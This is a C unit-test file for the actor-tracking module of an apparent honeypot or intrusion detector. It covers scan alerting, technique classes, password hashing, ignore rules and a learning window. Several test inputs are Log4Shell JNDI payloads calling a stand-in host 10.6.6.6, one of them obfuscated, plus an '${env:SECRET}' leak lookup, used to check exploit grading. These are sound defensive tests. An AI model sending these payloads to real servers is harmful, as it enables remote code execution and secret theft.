/* actors: what is told, when, and what is not. */
#include "actor_rig.h"

#include "base/limits.h"

static void a_sweep_is_one_alert_that_grows(void **state)
{
    (void)state;
    struct rig r;
    rig_init(&r);
    r.opts.settle_ms = 300;
    rig_open(&r, NULL);
    for (uint32_t port = 1; port <= 65535; port++) {
        assert_int_equal(rig_touch(&r, "10.0.0.7", (uint16_t)port, CT_TECHNIQUE_SYN), CT_OK);
        if (port % 100 == 0) rig_wait(&r, 1);
    }
    assert_int_equal(r.n, 1);
    assert_int_equal(r.events[0].e.news, CT_ACTOR_NEW);
    assert_true(rig_ports(&r.events[0]) >= 29000 && rig_ports(&r.events[0]) < 31100);
    rig_wait(&r, 10000);
    assert_int_equal(r.n, 2);
    struct rig_event *e = rig_last(&r);
    assert_int_equal(e->e.news, CT_ACTOR_GREW);
    assert_int_equal(e->e.tcp.n, 65535);
    assert_int_equal(e->e.tcp.n_ranges, 1);
    assert_int_equal(e->tcp[0].first, 1);
    assert_int_equal(e->tcp[0].last, 65535);
    assert_int_equal(e->e.touches, 65535);
    assert_true(e->e.rate_peak > 50000);
    assert_memory_equal(e->e.actor, r.events[0].e.actor, 16);
    assert_memory_not_equal(e->e.id, r.events[0].e.id, 16);
    for (int minutes = 0; minutes < 40; minutes++) rig_wait(&r, 60000);
    assert_int_equal(r.n, 3);
    assert_int_equal(rig_last(&r)->e.news, CT_ACTOR_ENDED);
    rig_wait(&r, CT_ACTOR_FORGET_MS);
    struct ct_actor_stats s;
    ct_actors_stats(r.actors, &s);
    assert_int_equal(s.actors, 0);
    assert_int_equal(s.memory, 0);
    assert_int_equal(r.n, 3);
    rig_done(&r);
}

static void what_goes_on_is_told_less_and_less(void **state)
{
    (void)state;
    struct rig r;
    rig_init(&r);
    rig_open(&r, NULL);
    int64_t began = r.now.mono_ms, at[16] = {0};
    size_t n = 0;
    for (uint32_t i = 0; i < 30000; i++) { /* a new port each three seconds, for more than a day */
        assert_int_equal(rig_touch(&r, "10.0.0.7", (uint16_t)(i + 1), CT_TECHNIQUE_SYN), CT_OK);
        rig_wait(&r, 3000);
        while (n < r.n && n < 16) at[n++] = (r.now.mono_ms - began) / 1000;
    }
    static const int64_t want[] = {0, 10, 70, 370, 2170, 9370, 30970, 52570, 74170};
    assert_int_equal(r.n, sizeof want / sizeof *want);
    for (size_t i = 0; i < r.n; i++)
        if (at[i] < want[i] || at[i] > want[i] + 10 * (int64_t)(i + 1)) fail_msg("event %zu came after %lld s", i, (long long)at[i]);
    rig_done(&r);
}

static void a_worse_payload_is_told_at_once(void **state)
{
    (void)state;
    struct rig r;
    rig_init(&r);
    r.opts.settle_ms = 300;
    rig_open(&r, NULL);
    assert_int_equal(rig_session(&r, "10.0.0.7", 8080, "http", "curl/7.88"), CT_OK);
    assert_int_equal(r.n, 0);
    assert_null(r.record.payload.grade);
    rig_wait(&r, 300);
    assert_int_equal(r.n, 1);
    assert_int_equal(rig_session(&r, "10.0.0.7", 8080, "http", "${env:SECRET}"), CT_OK);
    assert_int_equal(r.n, 2);
    assert_int_equal(rig_last(&r)->e.news, CT_ACTOR_ROSE);
    assert_string_equal(rig_last(&r)->grade, "leak");
    assert_int_equal(rig_session(&r, "10.0.0.7", 8080, "http", "${${lower:j}ndi:ldap://10.6.6.6:1389/a}"), CT_OK);
    assert_int_equal(r.n, 3);
    assert_string_equal(rig_last(&r)->grade, "exploit");
    assert_string_equal(rig_last(&r)->normal, "${jndi:ldap://10.6.6.6:1389/a}");
    assert_string_equal(rig_last(&r)->callback, "10.6.6.6");
    assert_true(rig_last(&r)->e.payload.n_fires > 0);
    assert_string_equal(r.record.payload.grade, "exploit");
    assert_memory_equal(r.record.actor, rig_last(&r)->e.actor, 16);
    /* The same again, or less, is no news before its time. */
    for (int i = 0; i < 5000; i++) assert_int_equal(rig_session(&r, "10.0.0.7", 8080, "http", "${jndi:ldap://10.6.6.6:1389/b}"), CT_OK);
    assert_int_equal(r.n, 3);
    rig_wait(&r, 10000);
    assert_int_equal(r.n, 4);
    assert_int_equal(rig_last(&r)->e.payloads, 5002);
    assert_int_equal(rig_last(&r)->e.sessions, 5003);
    /* A first payload needs no settling. */
    assert_int_equal(rig_session(&r, "10.0.0.8", 8080, "http", "${jndi:rmi://10.6.6.6/a}"), CT_OK);
    assert_int_equal(r.n, 5);
    assert_int_equal(rig_last(&r)->e.news, CT_ACTOR_NEW);
    assert_string_equal(rig_last(&r)->grade, "exploit");
    rig_done(&r);
}

static bool has(const char *const *list, size_t n, const char *what)
{
    for (size_t i = 0; i < n; i++)
        if (strcmp(list[i], what) == 0) return true;
    return false;
}

static void techniques_and_classes(void **state)
{
    (void)state;
    struct rig r;
    rig_init(&r);
    rig_open(&r, NULL);
    assert_int_equal(rig_touch(&r, "10.0.0.7", 0, CT_TECHNIQUE_PING), CT_OK);
    assert_int_equal(rig_touch(&r, "10.0.0.7", 22, CT_TECHNIQUE_SYN), CT_OK);
    assert_int_equal(rig_touch(&r, "10.0.0.7", 23, CT_TECHNIQUE_SYN), CT_OK);
    assert_int_equal(r.n, 2); /* ping; TCP */
    assert_int_equal(rig_touch(&r, "10.0.0.7", 22, CT_TECHNIQUE_XMAS), CT_OK);
    assert_int_equal(rig_touch(&r, "10.0.0.7", 22, CT_TECHNIQUE_NULL), CT_OK);
    assert_int_equal(r.n, 3);
    assert_int_equal(rig_touch(&r, "10.0.0.7", 161, CT_TECHNIQUE_UDP), CT_OK);
    assert_int_equal(r.n, 4);
    rig_wait(&r, 10000);
    assert_int_equal(r.n, 4); /* a NULL packet beside XMAS was told with the UDP class */
    const struct ct_actor_event *e = &rig_last(&r)->e;
    assert_int_equal(e->news, CT_ACTOR_ROSE);
    assert_int_equal(e->n_techniques, 5);
    assert_true(has(e->techniques, e->n_techniques, "null") && has(e->techniques, e->n_techniques, "ping"));
    /* A SYN that a connection followed is no half-open scan. */
    assert_int_equal(rig_touch(&r, "10.0.0.8", 80, CT_TECHNIQUE_SYN), CT_OK);
    assert_int_equal(rig_session(&r, "10.0.0.8", 80, "http", "x"), CT_OK);
    rig_wait(&r, 10000);
    e = &rig_last(&r)->e;
    assert_true(has(e->techniques, e->n_techniques, "connect") && !has(e->techniques, e->n_techniques, "syn"));
    assert_int_equal(e->n_faces, 1);
    rig_done(&r);
}

static void logins_are_kept_as_hashes(void **state)
{
    (void)state;
    for (int clear = 0; clear < 2; clear++) {
        struct rig r;
        rig_init(&r);
        r.opts.keep_passwords = clear;
        rig_open(&r, NULL);
        assert_int_equal(rig_login(&r, "10.0.0.7", 22, "root", "hunter2!"), CT_OK);
        assert_int_equal(rig_last(&r)->e.logins_tried, 1);
        char hash[33];
        ct_secret_hash(r.opts.key, CT_STR("hunter2!"), hash);
        assert_string_equal(rig_last(&r)->user, "root");
        assert_string_equal(rig_last(&r)->secret, clear ? "hunter2!" : hash);
        assert_true(ct_str_eq(r.record.logins[0].secret, ct_str_from(clear ? "hunter2!" : hash)));
        for (int i = 0; i < 1000; i++) {
            char user[16], password[16];
            (void)snprintf(user, sizeof user, "user%d", i % 5);
            (void)snprintf(password, sizeof password, "pass%d", i % 400);
            assert_int_equal(rig_login(&r, "10.0.0.7", 22, user, password), CT_OK);
        }
        rig_wait(&r, 10000);
        const struct ct_actor_event *e = &rig_last(&r)->e;
        assert_int_equal(e->logins_tried, 1001);
        assert_int_equal(e->users_distinct, 6);
        assert_int_equal(e->secrets_distinct, CT_ACTOR_DISTINCT_MAX);
        assert_true(e->distinct_at_least);
        assert_int_equal(e->n_logins, CT_ACTOR_LOGINS_MAX);
        rig_done(&r);
    }
}

/* FTP asks for the name first, and answers before the password comes. */
static void a_password_in_a_later_piece_belongs_to_its_name(void **state)
{
    (void)state;
    struct rig r;
    rig_init(&r);
    rig_open(&r, NULL);
    struct ct_contact_fact first[] = {{CT_FACT_USER, CT_STR("ftpuser")}},
                           second[] = {{CT_FACT_PASSWORD, CT_STR("geheim-99")}, {CT_FACT_COMMAND, CT_STR("PASS geheim-99\r\n")}};
    struct ct_contact c = {.touch = rig_touch_of("10.0.0.7", 21, CT_TECHNIQUE_CONNECT), .face = "ftp", .facts = first, .n_facts = 1, .more = true};
    assert_int_equal(ct_actors_touch(r.actors, &c.touch, r.now), CT_OK);
    assert_int_equal(ct_actors_contact(r.actors, &c, r.now, r.arena, &r.record), CT_OK);
    assert_int_equal(r.record.n_logins, 1);
    assert_int_equal(r.record.logins[0].secret.n, 0);
    c.user = CT_STR("ftpuser");
    c.facts = second;
    c.n_facts = 2;
    c.more = false;
    assert_int_equal(ct_actors_contact(r.actors, &c, r.now, r.arena, &r.record), CT_OK);
    assert_int_equal(r.record.n_logins, 1);
    assert_true(ct_str_eq(r.record.logins[0].user, CT_STR("ftpuser")));
    assert_int_equal(r.record.logins[0].secret.n, 32);
    assert_true(ct_str_eq(r.record.said[0].value, CT_STR("PASS ***\r\n"))); /* not once more in clear */
    ct_actors_tick(r.actors, r.now);
    const struct ct_actor_event *e = &rig_last(&r)->e;
    assert_int_equal(e->logins_tried, 1);
    assert_int_equal(e->n_logins, 1);
    assert_int_equal(e->sessions, 1);
    rig_done(&r);
}

static void same_input_same_ids(void **state)
{
    (void)state;
    struct rig r[2];
    for (int i = 0; i < 2; i++) {
        rig_init(&r[i]);
        memset(r[i].opts.key, i, sizeof r[i].opts.key); /* ids do not hang on the key: it may be lost */
        rig_open(&r[i], NULL);
        assert_int_equal(rig_touch(&r[i], "fd00::7", 22, CT_TECHNIQUE_SYN), CT_OK);
        assert_int_equal(rig_login(&r[i], "fd00::7", 22, "a", "bcd"), CT_OK);
        rig_wait(&r[i], 3600000);
    }
    assert_int_equal(r[0].n, 3);
    assert_int_equal(r[1].n, 3);
    for (size_t i = 0; i < 3; i++) {
        assert_memory_equal(r[0].events[i].e.id, r[1].events[i].e.id, 16);
        for (size_t k = 0; k < i; k++) assert_memory_not_equal(r[0].events[i].e.id, r[0].events[k].e.id, 16);
    }
    rig_done(&r[0]);
    rig_done(&r[1]);
}

static void the_same_address_on_two_links_is_two_actors(void **state)
{
    (void)state;
    struct rig r;
    rig_init(&r);
    rig_open(&r, NULL);
    for (uint32_t scope = 2; scope < 4; scope++) {
        struct ct_touch t = rig_touch_of("fe80::1", 22, CT_TECHNIQUE_SYN);
        t.scope = scope;
        assert_int_equal(ct_actors_touch(r.actors, &t, r.now), CT_OK);
    }
    ct_actors_tick(r.actors, r.now);
    assert_int_equal(r.n, 2);
    assert_string_equal(r.events[0].source, "fe80::1%2");
    assert_string_equal(r.events[1].source, "fe80::1%3");
    rig_done(&r);
}

static void stragglers_are_no_scan_until_there_are_many(void **state)
{
    (void)state;
    struct rig r;
    rig_init(&r);
    rig_open(&r, NULL);
    struct ct_actor_stats s;
    for (int minute = 0; minute < 50; minute++) {
        for (uint16_t i = 0; i < 20; i++) {
            assert_int_equal(rig_touch(&r, "10.0.0.7", (uint16_t)(40000 + i + minute * 20), CT_TECHNIQUE_ACK), CT_OK);
            assert_int_equal(rig_touch(&r, "10.0.0.7", (uint16_t)(40000 + i + minute * 20), CT_TECHNIQUE_ACK), CT_OK);
        }
        rig_wait(&r, 60001);
    }
    ct_actors_stats(r.actors, &s);
    assert_int_equal(r.n, 0);
    assert_int_equal(s.stragglers, 2000);
    /* nmap -sA */
    for (uint16_t port = 1; port < 1000; port++) assert_int_equal(rig_touch(&r, "10.0.0.8", port, CT_TECHNIQUE_ACK), CT_OK);
    assert_int_equal(r.n, 1);
    rig_wait(&r, 10000);
    assert_int_equal(rig_last(&r)->e.tcp.n, 999); /* the first ones too */
    /* Answers of a name server that come too late; the same from a scanner with -g 53. */
    for (uint32_t i = 0; i < 30000; i++) {
        struct ct_touch t = rig_touch_of(i < 20 ? "10.0.0.53" : "10.0.0.54", (uint16_t)(33000 + i), CT_TECHNIQUE_UDP);
        t.source_port = 53;
        assert_int_equal(ct_actors_touch(r.actors, &t, r.now), CT_OK);
    }
    rig_wait(&r, 10000);
    assert_string_equal(rig_last(&r)->source, "10.0.0.54");
    assert_int_equal(rig_last(&r)->e.udp.n, 29980);
    rig_done(&r);
}

static void what_everybody_gets_is_not_told(void **state)
{
    (void)state;
    struct rig r;
    rig_init(&r);
    rig_open(&r, NULL);
    struct ct_touch mdns = rig_touch_of("10.0.0.7", 5353, CT_TECHNIQUE_UDP), dhcp = rig_touch_of("10.0.0.1", 68, CT_TECHNIQUE_UDP);
    mdns.to_many = true;
    dhcp.source_port = 67;
    assert_int_equal(ct_actors_touch(r.actors, &mdns, r.now), CT_OK);
    assert_int_equal(ct_actors_touch(r.actors, &dhcp, r.now), CT_OK);
    rig_wait(&r, 1000);
    assert_int_equal(r.n, 0);
    struct ct_actor_stats s;
    ct_actors_stats(r.actors, &s);
    assert_int_equal(s.multicast, 2);
    assert_int_equal(s.actors, 0);
    rig_done(&r);
}

static void a_quiet_start(void **state)
{
    (void)state;
    struct rig r;
    rig_init(&r);
    rig_learn(&r, r.now.mono_ms + 600000);
    rig_open(&r, NULL);
    for (int i = 0; i < 60; i++) {
        assert_int_equal(rig_touch(&r, "10.0.0.2", 8080, CT_TECHNIQUE_SYN), CT_OK);
        assert_int_equal(rig_session(&r, "10.0.0.2", 8080, "http", "GET /health"), CT_OK);
        assert_string_equal(r.record.background, "learned");
        assert_int_equal(rig_touch(&r, "10.0.0.3", 161, CT_TECHNIQUE_UDP), CT_OK);
        assert_int_equal(rig_touch(&r, "10.0.0.3", 0, CT_TECHNIQUE_PING), CT_OK);
        rig_wait(&r, 10000);
    }
    assert_int_equal(r.n, 0);
    assert_int_equal(ct_background_count(r.background, CT_BACKGROUND_LEARNED), 3);
    struct ct_buf out;
    ct_buf_init(&out, r.arena, 1u << 20);
    assert_true(ct_background_changed(r.background));
    ct_background_print(r.background, &out);
    ct_str text = ct_buf_view(&out);
    assert_true(ct_str_find(text, CT_STR("learned 10.0.0.2 tcp/8080 count=120 first=2023-11-14T22:13:20Z last=")) != CT_STR_NONE);
    assert_true(ct_str_find(text, CT_STR("learned 10.0.0.3 ping count=60")) != CT_STR_NONE);
    /* The window is over: what is known stays quiet, what is new is told. */
    rig_wait(&r, 1000);
    assert_int_equal(rig_session(&r, "10.0.0.2", 8080, "http", "GET /health"), CT_OK);
    assert_int_equal(r.n, 0);
    assert_int_equal(rig_touch(&r, "10.0.0.2", 22, CT_TECHNIQUE_SYN), CT_OK);
    assert_int_equal(r.n, 1);
    assert_int_equal(rig_last(&r)->e.n_sources, 1);
    /* What is expected never covers a payload or a login. */
    assert_int_equal(rig_session(&r, "10.0.0.2", 8080, "http", "${jndi:ldap://10.6.6.6/a}"), CT_OK);
    assert_int_equal(r.n, 2);
    assert_string_equal(rig_last(&r)->grade, "exploit");
    assert_null(r.record.background);
    rig_done(&r);
}

static void a_scan_in_the_quiet_start_is_told(void **state)
{
    (void)state;
    struct rig r;
    rig_init(&r);
    rig_learn(&r, r.now.mono_ms + 600000);
    rig_open(&r, NULL);
    for (uint16_t port = 1; port <= 100; port++) assert_int_equal(rig_touch(&r, "10.0.0.7", port, CT_TECHNIQUE_SYN), CT_OK);
    assert_int_equal(r.n, 1);
    rig_wait(&r, 10000);
    assert_int_equal(rig_last(&r)->e.tcp.n, 100); /* those too that it began with */
    assert_int_equal(ct_background_count(r.background, CT_BACKGROUND_LEARNED), 0);
    /* Techniques that no monitor uses are never learned; nor is what came with a login. */
    assert_int_equal(rig_touch(&r, "10.0.0.8", 22, CT_TECHNIQUE_FIN), CT_OK);
    assert_string_equal(rig_last(&r)->source, "10.0.0.8");
    assert_int_equal(rig_touch(&r, "10.0.0.9", 22, CT_TECHNIQUE_SYN), CT_OK);
    assert_int_equal(rig_login(&r, "10.0.0.9", 22, "root", "toor"), CT_OK);
    assert_string_equal(rig_last(&r)->source, "10.0.0.9");
    assert_int_equal(ct_background_count(r.background, CT_BACKGROUND_LEARNED), 0);
    rig_done(&r);
}

static void ignored_and_counted(void **state)
{
    (void)state;
    struct rig r;
    rig_init(&r);
    rig_ignore(&r, "10.0.0.5 until 2023-11-15T00:00:00Z # scanner\n10.0.0.6 with-payloads\n10.0.1.0/24 tcp/8080\n");
    rig_open(&r, NULL);
    for (uint16_t port = 1; port <= 100; port++) {
        assert_int_equal(rig_touch(&r, "10.0.0.5", port, CT_TECHNIQUE_SYN), CT_OK);
        assert_int_equal(rig_touch(&r, "10.0.0.6", port, CT_TECHNIQUE_XMAS), CT_OK);
    }
    assert_int_equal(rig_session(&r, "10.0.0.6", 80, "http", "${jndi:ldap://10.6.6.6/a}"), CT_OK);
    assert_string_equal(r.record.background, "ignored");
    assert_string_equal(r.record.payload.grade, "exploit"); /* on record all the same */
    assert_int_equal(rig_touch(&r, "10.0.1.9", 8080, CT_TECHNIQUE_SYN), CT_OK);
    assert_int_equal(r.n, 0);
    assert_int_equal(ct_ignore_at(r.ignore, 0)->hits, 100);
    assert_int_equal(ct_ignore_at(r.ignore, 1)->hits, 101);
    assert_int_equal(ct_ignore_at(r.ignore, 2)->hits, 1);
    assert_int_equal(rig_session(&r, "10.0.0.5", 80, "http", "${jndi:ldap://10.6.6.6/a}"), CT_OK);
    assert_int_equal(r.n, 1);
    assert_int_equal(rig_touch(&r, "10.0.1.9", 8081, CT_TECHNIQUE_SYN), CT_OK);
    assert_int_equal(r.n, 2);
    r.now.real_us += INT64_C(86400000000); /* the rule has run out */
    assert_int_equal(rig_touch(&r, "10.0.0.5", 22, CT_TECHNIQUE_SYN), CT_OK);
    rig_wait(&r, 10000);
    assert_string_equal(rig_last(&r)->source, "10.0.0.5");
    rig_done(&r);
}

static void a_clock_that_jumps_changes_nothing(void **state)
{
    (void)state;
    struct rig r;
    rig_init(&r);
    rig_open(&r, NULL);
    assert_int_equal(rig_touch(&r, "10.0.0.7", 22, CT_TECHNIQUE_SYN), CT_OK);
    r.now.real_us -= INT64_C(1000000000000);
    assert_int_equal(rig_touch(&r, "10.0.0.7", 23, CT_TECHNIQUE_SYN), CT_OK);
    rig_wait(&r, 9999);
    assert_int_equal(r.n, 1);
    rig_wait(&r, 1);
    assert_int_equal(r.n, 2);
    r.now.real_us += INT64_C(100000000000000);
    rig_wait(&r, 1000);
    assert_int_equal(r.n, 2);
    rig_done(&r);
}

static void a_slow_scanner_does_not_wake_anybody_each_hour(void **state)
{
    (void)state;
    struct rig r;
    rig_init(&r);
    rig_open(&r, NULL);
    for (unsigned hour = 0; hour < 72; hour++) {
        assert_int_equal(rig_touch(&r, "10.0.0.7", (uint16_t)(hour + 1), CT_TECHNIQUE_SYN), CT_OK);
        for (int i = 0; i < 60; i++) rig_wait(&r, 60000);
    }
    assert_true(r.n < 24);
    for (size_t i = 1; i < r.n; i++) assert_memory_equal(r.events[0].e.actor, r.events[i].e.actor, 16);
    assert_true(rig_last(&r)->e.tcp.n > 60);
    rig_done(&r);
}

static void the_end_loses_nothing(void **state)
{
    (void)state;
    struct rig r;
    rig_init(&r);
    r.opts.settle_ms = 300;
    rig_open(&r, NULL);
    assert_int_equal(rig_touch(&r, "10.0.0.7", 22, CT_TECHNIQUE_SYN), CT_OK);
    ct_actors_flush(r.actors, r.now);
    assert_int_equal(r.n, 1);
    assert_int_equal(rig_touch(&r, "10.0.0.7", 23, CT_TECHNIQUE_SYN), CT_OK);
    ct_actors_flush(r.actors, r.now);
    assert_int_equal(r.n, 2);
    assert_int_equal(rig_last(&r)->e.tcp.n, 2);
    ct_actors_flush(r.actors, r.now);
    assert_int_equal(r.n, 2);
    rig_done(&r);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(a_sweep_is_one_alert_that_grows),
        cmocka_unit_test(what_goes_on_is_told_less_and_less),
        cmocka_unit_test(a_worse_payload_is_told_at_once),
        cmocka_unit_test(techniques_and_classes),
        cmocka_unit_test(logins_are_kept_as_hashes),
        cmocka_unit_test(a_password_in_a_later_piece_belongs_to_its_name),
        cmocka_unit_test(same_input_same_ids),
        cmocka_unit_test(the_same_address_on_two_links_is_two_actors),
        cmocka_unit_test(stragglers_are_no_scan_until_there_are_many),
        cmocka_unit_test(what_everybody_gets_is_not_told),
        cmocka_unit_test(a_quiet_start),
        cmocka_unit_test(a_scan_in_the_quiet_start_is_told),
        cmocka_unit_test(ignored_and_counted),
        cmocka_unit_test(a_clock_that_jumps_changes_nothing),
        cmocka_unit_test(a_slow_scanner_does_not_wake_anybody_each_hour),
        cmocka_unit_test(the_end_loses_nothing),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
